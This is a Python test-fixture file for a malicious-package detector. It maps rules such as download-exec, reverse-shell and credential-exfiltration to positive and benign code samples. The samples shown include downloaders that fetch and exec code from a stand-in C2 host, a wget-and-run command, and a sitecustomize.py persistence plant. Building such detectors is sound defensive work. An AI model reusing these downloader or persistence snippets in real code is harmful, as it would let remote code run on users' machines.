# A Python snippet written to a temp file and started with a detached interpreter.
TEMP_INTERPRETER = (
    "from os import system as _run\nfrom sys import executable as _py\n"
    "from tempfile import NamedTemporaryFile as _tmpfile\n\n"
    "_t = _tmpfile(delete=False)\n_t.write(b'print(\"FIXTURE_OK\")')\n_t.close()\n"
    "_run(f\"start {_py.replace('.exe', 'w.exe')} {_t.name}\")\n"
)
PIP_VERSION = (
    "import subprocess\nimport sys\n\nsubprocess.run([sys.executable, '-m', 'pip', '--version'])\n"
)

# A second stage written out as a literal and run, from a function nobody calls at import:
# the program itself fetches code and runs it.
DROPPED_DOWNLOADER = (
    "from os import system as _run\nfrom sys import executable as _py\n"
    "from tempfile import NamedTemporaryFile as _tmpfile\n\n\ndef fetch():\n"
    "    _t = _tmpfile(delete=False)\n"
    f"    _t.write(b\"from urllib.request import urlopen;exec(urlopen('{C2}').read())\")\n"
    "    _t.close()\n"
    "    _run(f\"start {_py.replace('.exe', 'w.exe')} {_t.name}\")\n"
)
# The same written with the writer's indentation kept, a download command line inside.
DROPPED_SHELL_DOWNLOAD = """\
import platform, subprocess
if platform.system() == "Linux":
    with open("/tmp/.tmp.py", "w") as f:
        f.write(\"\"\"
        import subprocess
        subprocess.call("wget https://c2.example.invalid/x -O /tmp/x && python3 /tmp/x", shell=True)
        \"\"\")
    subprocess.call("python3 /tmp/.tmp.py &", shell=True)
"""
# Written line by line on one handle, and planted where every interpreter start runs it.
DROPPED_SITECUSTOMIZE = f"""\
import site


def plant():
    target = site.getsitepackages()[0] + "/sitecustomize.py"
    with open(target, "w") as out:
        out.write("import urllib.request\\n")
        out.write("exec(urllib.request.urlopen('{C2}').read())\\n")
"""
# The same second stage run without a file: given to exec, or to a new interpreter's -c.
EXEC_LITERAL_DOWNLOADER = (
    "def fetch():\n"
    f"    exec(\"import urllib.request\\nexec(urllib.request.urlopen('{C2}').read())\")\n"
)
INLINE_DOWNLOADER = (
    "import subprocess, sys\n\n\ndef fetch():\n"
    "    subprocess.Popen([sys.executable, '-c', "
    f"\"import urllib.request;exec(urllib.request.urlopen('{C2}').read())\"])\n"
)
INLINE_DOWNLOADER_COMMAND_LINE = (
    "import os\n\n\ndef fetch():\n"
    "    os.system('python3 -c \"import urllib.request;"
    f"exec(urllib.request.urlopen(\\'{C2}\\').read())\"')\n"
)
# Inline programs of build and CLI tools: the interpreter's prefix, a pip install.
INLINE_PREFIX = (
    "import subprocess, sys\n\n\ndef prefix():\n"
    "    return subprocess.check_output([sys.executable, '-c', 'import sys; print(sys.prefix)'])\n"
)
INLINE_PIP_INSTALL = (
    "import os\n\n\ndef bootstrap():\n"
    "    os.system('python -c \"import subprocess, sys; "
    "subprocess.check_call([sys.executable, \\'-m\\', \\'pip\\', \\'install\\', \\'wheel\\'])\"')\n"
)
# A build helper writes a script and runs it: the script only reports the Python version.
WRITES_VERSION_SCRIPT = """\
import subprocess, sys, tempfile


def python_version():
    with tempfile.NamedTemporaryFile("w", suffix=".py", delete=False) as f:
        f.write("import subprocess, sys\\nsubprocess.run([sys.executable, '--version'])\\n")
    return subprocess.check_output([sys.executable, f.name])
"""
# Documentation generated with an example that downloads and runs code, never run itself.
WRITES_EXAMPLE_DOC = f"""\
def write_example(folder):
    with open(folder + "/bootstrap_example.py", "w") as f:
        f.write("import urllib.request\\nexec(urllib.request.urlopen('{C2}').read())\\n")
"""

# A builtin picked by an expression no reader can resolve, run at import time.
BUILTIN_BY_EXPRESSION = (
    "_pick = getattr(__builtins__, oct.__str__()[-3] + hex.__str__()[-4] + 'r')\n"
    "print(''.join(map(_pick, [70, 73, 88, 84, 85, 82, 69, 95, 79, 75])))\n"
)
# Serialisers resolve builtins by a name they were given, when called.
BUILTIN_BY_NAME_AT_RUNTIME = (
    "import builtins\n\n\ndef resolve(name):\n    return getattr(builtins, name)\n"
)

FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
    "decode-exec": RuleFixtures(
        positive=[
            module(src, f"pkg/{name.replace('-', '_')}.py")
            for name, src in DECODE_EXEC_SHAPES.items()
        ]
        + [
            module(DECODE_EXEC_REACHED),
            startup(DECODE_EXEC_SHAPES["b64"]),
            module(XOR_ALIASED_EXEC, "pkg/styled.py"),
            module(FERNET_EXEC),
        ],
        benign=[
            module(DECODE_EXEC_IN_FUNCTION),
            module(VERSION_EXEC),
            module(B64_NOT_EXECUTED),
            module(
                f"if __name__ == '__main__':\n{DECODE_EXEC_SHAPES['b64']}".replace(
                    "\nexec", "\n    exec"
                )
            ),
            # setup_hooks reports it for setup.py (setup-install-decode-exec).
            setup_py(DECODE_EXEC_SHAPES["b64"]),
        ],
    ),
    "decode-exec-runtime": RuleFixtures(
        positive=[module(DECODE_EXEC_IN_FUNCTION), setup_py(DECODE_EXEC_IN_FUNCTION)],
        benign=[module(DECODE_EXEC_SHAPES["b64"]), module(EXEC_TEMPLATE_IN_FUNCTION)],
    ),
    "import-exec-dynamic": RuleFixtures(
        positive=[module(EXEC_DYNAMIC)],
        benign=[module(VERSION_EXEC), module(EXEC_TEMPLATE_IN_FUNCTION)],
    ),
    "download-exec": RuleFixtures(
        positive=[
            module(DOWNLOAD_EXEC_EVAL),
            module(DOWNLOAD_PYZ_RUN),
            module(DOWNLOAD_BINARY_CHMOD),
            setup_py(DOWNLOAD_PYZ_RUN),
            module(DOWNLOAD_PLANTED_MODULE),
            module(DOWNLOAD_THEN_START),
        ],
        benign=[
            module(DOWNLOAD_ONLY_SAVE),
            module(DOWNLOAD_TOOL_RUNTIME),
            module(SDK_CLIENT),
            setup_py(FETCH_SOURCES_THEN_BUILD),
        ],
    ),
    "download-run-runtime": RuleFixtures(
        positive=[module(DOWNLOAD_TOOL_RUNTIME)],
        benign=[module(DOWNLOAD_ONLY_SAVE), module(DOWNLOAD_PYZ_RUN)],
    ),
    "download-run-executable": RuleFixtures(
        positive=[module(DOWNLOAD_EXE_RUN), module(DOWNLOAD_BAT_START)],
        benign=[module(DOWNLOAD_TOOL_RUNTIME), module(DOWNLOAD_DRIVER_COMPUTED_NAME)],
    ),
    "dropper-write-run": RuleFixtures(
        positive=[
            module(TEMP_INTERPRETER),
            setup_py(TEMP_INTERPRETER),
            module(DROPPER, "litellm/proxy/proxy_server.py"),
            setup_py(DROPPER),
        ],
        benign=[module(PIP_VERSION), module(WRITES_DECODED_ICON), module(CLI_SUBPROCESS)],
    ),
    "literal-program-run": RuleFixtures(
        positive=[
            module(DROPPED_DOWNLOADER),
            module(DROPPED_SHELL_DOWNLOAD),
            module(DROPPED_SITECUSTOMIZE),
            setup_py(DROPPED_DOWNLOADER),
            module(EXEC_LITERAL_DOWNLOADER),
            module(INLINE_DOWNLOADER),
            module(INLINE_DOWNLOADER_COMMAND_LINE),
        ],
        benign=[
            module(INLINE_PREFIX),
            module(INLINE_PIP_INSTALL),
            module(WRITES_VERSION_SCRIPT),
            module(WRITES_EXAMPLE_DOC),
            module(TEMP_INTERPRETER),
            module(DROPPER),
        ],
    ),
    "import-process": RuleFixtures(
        positive=[module(IMPORT_GIT), module(IMPORT_CURL), startup(IMPORT_GIT)],
        benign=[module(CLI_SUBPROCESS), module(ENV_SUBPROCESS), setup_py(IMPORT_GIT)],
    ),
    "import-shell-download": RuleFixtures(
        positive=[
            module(IMPORT_CURL),
            module(IMPORT_POWERSHELL_LIST),
            module(IMPORT_PUBLISH_THEN_FETCH),
        ],
        benign=[
            module(IMPORT_GIT),
            module(IMPORT_PUBLISH),
            module(RUNTIME_CURL),
            setup_py(IMPORT_CURL),
            module(CURL_VERSION_PROBE),
        ],
    ),
    "import-network": RuleFixtures(
        positive=[
            module(IMPORT_URLOPEN),
            module(SOCKET_AT_IMPORT),
            module(CLI_COMMAND_CALLED),
            module(CLI_COMMANDS_CALLED_IN_GROUP),
        ],
        benign=[
            module(SDK_CLIENT),
            module(LOCAL_IP.replace("gethostbyname", "getfqdn")),
            module(CLI_COMMAND_REGISTERED),
            module(CLI_COMMANDS_IN_GROUP),
        ],
    ),
    "env-dump": RuleFixtures(
        positive=[module(ENV_TO_FILE)],
        benign=[module(ENV_SUBPROCESS), module(ENV_ONE_KEY)],
    ),
    "env-exfiltration": RuleFixtures(
        positive=[
            module(ENV_POST),
            module(ENV_B64_GET),
            module(ENV_ITEMS_LOOP),
            module(ENV_COMMAND_OUTPUT),
        ],
        benign=[
            module(ENV_SUBPROCESS),
            module(ENV_ONE_KEY),
            module(SDK_CLIENT),
            module(ENV_TO_POLLING_HELPER),
        ],
    ),
    "host-beacon": RuleFixtures(
        positive=[
            setup_py(BEACON_SETUP),
            module(BEACON_DNS),
            module(BEACON_IMPORT_ENV_USER),
            setup_py(BEACON_COMMAND_OUTPUT),
            module(BEACON_THROUGH_HELPER),
            module(BEACON_TLS_SOCKET),
            setup_py(SHELL_LINE_BEACON),
            module(BEACON_THROUGH_CALLER),
            setup_py(BEACON_UNAME_NODE),
        ],
        benign=[
            module(BUILD_COMMAND_OUTPUT),
            setup_py(PREBUILT_FOR_MACHINE),
            module(HELPER_NOT_SENDING_IT),
            module(DOWNLOAD_HELPER_TO_CWD),
            module(FILE_URI_UNDER_CWD),
            module(SHELL_DOWNLOAD_TO_CWD),
            module(HOST_FUNCTION_NAMED),
            module(LOCAL_IP),
            module(TELEMETRY_RUNTIME),
            module(SDK_CLIENT),
            module(SSH_LOGIN),
            module(MDNS_LOOKUP),
        ],
    ),
    "exfil-domain-fronting": RuleFixtures(
        positive=[module(FRONTED_BEACON), module(FRONTED_RUNTIME, "pkg/client.py")],
        benign=[module(HOST_HEADER_SAME_SITE), module(HOST_HEADER_BY_IP)],
    ),
    "host-info-network": RuleFixtures(
        positive=[module(TELEMETRY_RUNTIME)],
        benign=[module(LOCAL_IP), module(SDK_CLIENT), module(BEACON_DNS)],
    ),
    "credential-file-read": RuleFixtures(
        positive=[module(READ_SSH_KEY), module(READ_AWS_PATHLIB), module(STEAL_BROWSER)],
        benign=[module(SSH_CONFIG_DOC), module(SDK_CLIENT)],
    ),
    "credential-exfiltration": RuleFixtures(
        positive=[module(STEAL_SSH), module(STEAL_BROWSER)],
        benign=[
            module(READ_SSH_KEY),
            module(AWS_SDK_LIKE),
            module(SDK_CLIENT),
            module(LOGIN_HELPER),
        ],
    ),
    "credential-harvest": RuleFixtures(
        positive=[module(HARVEST)],
        benign=[module(AWS_SDK_LIKE), module(READ_SSH_KEY), module(SSH_CONFIG_DOC)],
    ),
    "dunder-monkeypatch": RuleFixtures(
        positive=[module(PATCH_INIT), module(PATCH_INIT_NETWORK)],
        benign=[module(LOCAL_CLASS_PATCH), module(PATCH_IN_FUNCTION)],
    ),
    "dunder-monkeypatch-network": RuleFixtures(
        positive=[module(PATCH_INIT_NETWORK)],
        benign=[module(PATCH_INIT), module(LOCAL_CLASS_PATCH), module(PATCH_IN_FUNCTION)],
    ),
    "obfuscated-import": RuleFixtures(
        positive=[module(OBF_IMPORT_CHR), module(OBF_IMPORT_B64)],
        benign=[module(PLUGIN_LOADER), module(LAST_OCCURRENCE_REPLACED)],
    ),
    "decoded-command": RuleFixtures(
        positive=[module(DECODED_SHELL), setup_py(DECODED_SHELL)],
        benign=[module(LITERAL_SHELL), module(CLI_SUBPROCESS), module(TOKEN_ON_COMMAND_LINE)],
    ),
    "obfuscated-builtin-lookup": RuleFixtures(
        positive=[module(BUILTIN_BY_EXPRESSION), module(OBF_GETATTR_BUILTINS)],
        benign=[
            module(BUILTIN_BY_NAME_AT_RUNTIME),
            module(PLUGIN_LOADER),
            module(EXCEPTION_BY_NAME),
        ],
    ),
    "reverse-shell": RuleFixtures(
        positive=[
            module(REVERSE_DUP2),
            module(REVERSE_PTY),
            module(REVERSE_POPEN),
            module(RECEIVED_SHELL_COMMAND),
        ],
        benign=[
            module(PTY_TERMINAL),
            module(SOCKET_AT_IMPORT),
            module(CLI_SUBPROCESS),
            module(RECEIVED_BYTES_COUNTED),
        ],
    ),
    "import-file-upload": RuleFixtures(
        positive=[module(IMPORT_UPLOAD_FILES)],
        benign=[module(SDK_UPLOAD_ON_REQUEST), module(IMPORT_POST_JSON)],
    ),
    "network-hidden-destination": RuleFixtures(
        positive=[
            module(POST_TO_DECODED_URL),
            module(POST_TO_DECODED_URL, "pkg/utils/net.py"),
            module(LOADER_WITH_DECODED_URL),
        ],
        benign=[
            module(SDK_UPLOAD_ON_REQUEST),
            module(DECODED_PAYLOAD_TO_PLAIN_URL),
            module(IMAGE_LOADER),
        ],
    ),
    "import-fetch-program": RuleFixtures(
        positive=[module(IMPORT_FETCH_EXE)],
        benign=[module(FETCH_EXE_ON_REQUEST), module(IMPORT_FETCH_JSON)],
    ),
    "import-side-install": RuleFixtures(
        positive=[
            module(IMPORT_PIP_INSTALL),
            module(IMPORT_PIP_MODULE),
            setup_py(SETUP_PIP_OBSCURE),
        ],
        benign=[
            setup_py(SETUP_PIP_BUILD_DEPENDENCY),
            module(PIP_INSTALL_ON_REQUEST),
            module(PIP_INSTALL_MESSAGE),
            module(PIP_INSTALL_HERE),
        ],
    ),
    "stego-exec": RuleFixtures(
        positive=[module(STEGO_WAV, "telnyx/_client.py"), module(STEGO_PIXELS)],
        benign=[module(AUDIO_TOOL), module(DECODE_EXEC_SHAPES["b64"])],
    ),
    "persistence-write": RuleFixtures(
        positive=[
            module(SYSTEMD_UNIT),
            module(BASHRC_APPEND),
            module(RUN_KEY),
            module(ACCOUNT_ADD),
        ],
        benign=[
            module(SHELL_SETUP_TOOL),
            module(READ_BASHRC),
            module(COMPLETION_OPTION),
            module(ACCOUNT_LIST),
        ],
    ),
    "persistence-write-runtime": RuleFixtures(
        positive=[module(SHELL_SETUP_TOOL), module(COMPLETION_OPTION)],
        benign=[module(READ_BASHRC), module(BASHRC_APPEND)],
    ),
}
